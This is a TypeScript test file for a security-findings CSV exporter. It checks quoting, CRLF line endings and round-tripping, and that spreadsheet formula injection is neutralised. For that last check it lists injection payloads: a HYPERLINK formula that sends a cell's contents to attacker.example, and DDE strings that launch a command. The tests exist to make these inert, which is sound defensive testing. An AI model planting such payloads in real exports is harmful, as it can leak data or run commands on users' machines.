import { describe, expect, it } from "vitest";
import { HOSTILE_VALUES } from "../../seed/hostile.ts";
import { CSV_COLUMNS, encodeCell, neutraliseFormula, toCsv } from "./csv.ts";
import { serializeFindings } from "./index.ts";
import type { ExportRow } from "./row.ts";
import { parseCsv, seedRows } from "./testing.ts";

/** What each cell should read as text once parsed back: the encoder's input, neutralised. */
const expectedCells = (row: ExportRow) =>
  CSV_COLUMNS.map((c) => {
    const v = c.value(row);
    return v === null ? "" : typeof v === "number" ? String(v) : neutraliseFormula(v);
  });

const withText = (row: ExportRow, over: Partial<ExportRow>): ExportRow => ({ ...row, ...over });

describe("CSV export", () => {
  const rows = seedRows();

  it("parses back, per RFC 4180, to a header and exactly the rows given, in order", () => {
    const csv = toCsv(rows);
    expect(csv.startsWith("\uFEFF")).toBe(true);
    const [header, ...records] = parseCsv(csv.slice(1));
    expect(header).toEqual([
      "name",
      "severity",
      "status",
      "area",
      "company",
      "product",
      "location",
      "cve",
      "cwe",
      "cvss_score",
      "first_seen",
      "last_seen",
      "change",
      "id",
    ]);
    expect(records).toHaveLength(rows.length);
    expect(records).toEqual(rows.map(expectedCells));
    expect(records.map((r) => Number(r.at(-1)))).toEqual(rows.map((r) => r.id));
  });

  it("writes what the screen shows for each area: location, scores and names", () => {
    const sql = rows.find((r) => r.area === "SOURCE_CODE" && r.cwe === "CWE-89") as ExportRow;
    const net = rows.find((r) => r.area === "NETWORK" && typeof r.port === "number" && r.cvss3_score !== null);
    const hostWide = rows.find((r) => r.area === "NETWORK" && r.port === "general");
    expect(net && hostWide).toBeTruthy();
    const records = parseCsv(toCsv([sql, net as ExportRow, hostWide as ExportRow]).slice(1)).slice(1);
    const byHeader = (k: number, header: string) => records[k]?.[CSV_COLUMNS.findIndex((c) => c.header === header)];
    expect(byHeader(0, "location")).toBe("app/orders/repository.py:42");
    expect(byHeader(0, "severity")).toBe("HIGH");
    expect(byHeader(0, "area")).toBe("SOURCE_CODE");
    expect(byHeader(0, "cwe")).toBe("CWE-89");
    expect(byHeader(0, "company")).toBe(sql.company.name);
    expect(byHeader(0, "product")).toBe(sql.product?.name);
    expect(byHeader(0, "id")).toBe(String(sql.id));
    expect(byHeader(1, "location")).toBe(`${net?.endpoint?.host}:${net?.port}`);
    expect(byHeader(1, "cvss_score")).toBe(String(net?.cvss3_score));
    expect(byHeader(2, "location")).toBe(hostWide?.endpoint?.host);
  });

  it("ends every record with CRLF and has no bare line feed between records", () => {
    const csv = toCsv(rows.slice(0, 3));
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv.split("\r\n")).toHaveLength(5);
  });

  it("quotes commas, quotes, CR and LF and doubles the quotes, and they survive the round trip", () => {
    const base = rows[0] as ExportRow;
    const names = ['Says "hi", twice', "line one\r\nline two", "bare\nfeed", "bare\rreturn", "plain"];
    const csv = toCsv(names.map((name, k) => withText(base, { name, id: k + 1 })));
    expect(csv).toContain('"Says ""hi"", twice"');
    const records = parseCsv(csv.slice(1)).slice(1);
    expect(records.map((r) => r[0])).toEqual(names);
  });

  it("holds the seed's hostile text as inert cells", () => {
    const base = rows[0] as ExportRow;
    const hostile = HOSTILE_VALUES.map((name, k) => withText(base, { name, id: k + 1 }));
    const records = parseCsv(toCsv(hostile).slice(1)).slice(1);
    expect(records.map((r) => r[0])).toEqual(HOSTILE_VALUES);
  });

  describe("formula injection (OWASP)", () => {
    const payloads = [
      '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
      "=cmd|' /C calc'!A0",
      "+SUM(1+1)",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
    ];

    it.each(payloads)("neutralises a text cell starting %j with a leading quote", (payload) => {
      const row = withText(rows[0] as ExportRow, { name: payload, cve: payload, component: payload, line: null });
      const [record] = parseCsv(toCsv([row]).slice(1)).slice(1);
      expect(record?.[0]).toBe(`'${payload}`);
      expect(record?.[7]).toBe(`'${payload}`);
      for (const cell of record ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it("neutralises the company, product and location columns too", () => {
      const row = withText(rows[0] as ExportRow, {
        area: "SOURCE_CODE",
        company: { id: 1, name: "=1+1" },
        product: { id: 2, name: "@x" },
        component: "-file.py",
        line: 3,
      });
      const [record] = parseCsv(toCsv([row]).slice(1)).slice(1);
      expect(record?.slice(4, 7)).toEqual(["'=1+1", "'@x", "'-file.py:3"]);
    });

    it("leaves numbers typed: a negative number stays a number, an ordinary word is untouched", () => {
      expect(encodeCell(-1.5)).toBe("-1.5");
      expect(encodeCell(7.5)).toBe("7.5");
      expect(encodeCell(Number.NaN)).toBe("");
      expect(encodeCell("-1.5")).toBe("'-1.5");
      expect(encodeCell("SQL query")).toBe("SQL query");
      expect(encodeCell("a=b")).toBe("a=b");
    });
  });

  it("is served as UTF-8 CSV with a header, under a dated file name", () => {
    const file = serializeFindings("csv", rows.slice(0, 2), { generatedAt: "2026-11-26T08:35:00.123Z" });
    expect(file).toMatchObject({
      contentType: "text/csv; charset=utf-8; header=present",
      filename: "sentinel-findings-20261126T083500Z.csv",
    });
  });
});
